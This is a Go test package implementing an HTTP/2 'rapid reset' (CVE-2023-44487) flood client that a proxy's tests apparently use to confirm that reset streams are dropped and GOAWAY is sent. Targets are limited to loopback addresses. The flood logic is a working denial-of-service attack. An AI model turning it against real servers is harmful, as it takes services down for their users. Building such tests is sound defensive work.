// Package h2flood is an HTTP/2 "rapid reset" client (CVE-2023-44487): over
// one TLS connection it opens streams and resets each at once (HEADERS,
// then RST_STREAM), as fast as it can write. The proxy's tests and
// `campus-bench abuse` use it to check that such streams are not forwarded
// and that the connection is told GOAWAY. It sends only to loopback.
package h2flood

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"golang.org/x/time/rate"
)

// Result is what one connection did.
type Result struct {
	Streams int  // streams opened and reset
	GoAway  bool // the server sent GOAWAY
}

// Options say where and how hard to flood.
type Options struct {
	Addr    string        // a loopback address
	From    string        // the loopback IP address to send from (e.g. 127.0.0.2); default any
	Host    string        // SNI and :authority
	Path    string        // :path; default "/"
	Streams int           // at most this many streams
	Wait    time.Duration // after the last stream, how long to wait for a GOAWAY not seen yet
	TLS     *tls.Config   // roots and such; nil: no verification
	// ResetAfter, if set, sends each RST_STREAM this long after its
	// HEADERS, in a write of its own: a reset that comes after the server
	// has started the request.
	ResetAfter time.Duration
	// Pace, if set, bounds the streams per second (taken in batches of
	// 100), so that floods compared side by side offer the same load.
	Pace *rate.Limiter
}

// Run opens one HTTP/2 connection and sends reset streams until
// o.Streams, ctx's end, a GOAWAY or the server stops reading.
func Run(ctx context.Context, o Options) (Result, error) {
	var res Result
	addr, host, path, streams, wait, roots := o.Addr, o.Host, o.Path, o.Streams, o.Wait, o.TLS
	if path == "" {
		path = "/"
	}
	if ip, _, err := net.SplitHostPort(addr); err != nil || !net.ParseIP(ip).IsLoopback() {
		return res, fmt.Errorf("h2flood: %q is not a loopback address", addr)
	}
	cfg := &tls.Config{InsecureSkipVerify: true}
	if roots != nil {
		cfg = roots.Clone()
	}
	cfg.ServerName, cfg.NextProtos = host, []string{"h2"}
	d := tls.Dialer{Config: cfg, NetDialer: &net.Dialer{}}
	if o.From != "" {
		ip := net.ParseIP(o.From)
		if ip == nil || !ip.IsLoopback() {
			return res, fmt.Errorf("h2flood: %q is not a loopback IP address", o.From)
		}
		d.NetDialer.LocalAddr = &net.TCPAddr{IP: ip}
	}
	c, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return res, fmt.Errorf("h2flood: dial: %w", err)
	}
	conn := c.(*tls.Conn)
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { _ = conn.SetDeadline(time.Now()) }) // unblock a write the server does not read
	defer stop()
	if p := conn.ConnectionState().NegotiatedProtocol; p != "h2" {
		return res, fmt.Errorf("h2flood: negotiated %q, not h2", p)
	}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return res, fmt.Errorf("h2flood: preface: %w", err)
	}
	// Each HEADERS and its RST_STREAM leave in one write (one TLS record),
	// as in the attack: the server reads the reset right after the
	// request.
	bw := bufio.NewWriter(conn)
	fr := http2.NewFramer(bw, conn)
	if err := fr.WriteSettings(); err != nil || bw.Flush() != nil {
		return res, fmt.Errorf("h2flood: settings: %v", err)
	}
	goaway := make(chan struct{})
	go func() { // read until GOAWAY or the connection ends
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			if _, ok := f.(*http2.GoAwayFrame); ok {
				close(goaway)
				return
			}
		}
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for i := 0; i < streams && ctx.Err() == nil; i++ {
		if o.Pace != nil && i%100 == 0 && o.Pace.WaitN(ctx, 100) != nil {
			break
		}
		select {
		case <-goaway:
			return Result{Streams: res.Streams, GoAway: true}, nil
		default:
		}
		hb.Reset()
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", path}} {
			_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
		}
		id := uint32(2*i + 1)
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true}) != nil {
			break // the server closed the connection
		}
		if o.ResetAfter > 0 && (bw.Flush() != nil || sleep(ctx, o.ResetAfter) != nil) {
			break
		}
		if fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil || bw.Flush() != nil {
			break
		}
		res.Streams++
	}
	t := time.NewTimer(wait)
	defer t.Stop()
	select {
	case <-goaway:
		res.GoAway = true
	case <-t.C:
	case <-ctx.Done():
	}
	return res, nil
}

func sleep(ctx context.Context, d time.Duration) error {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}
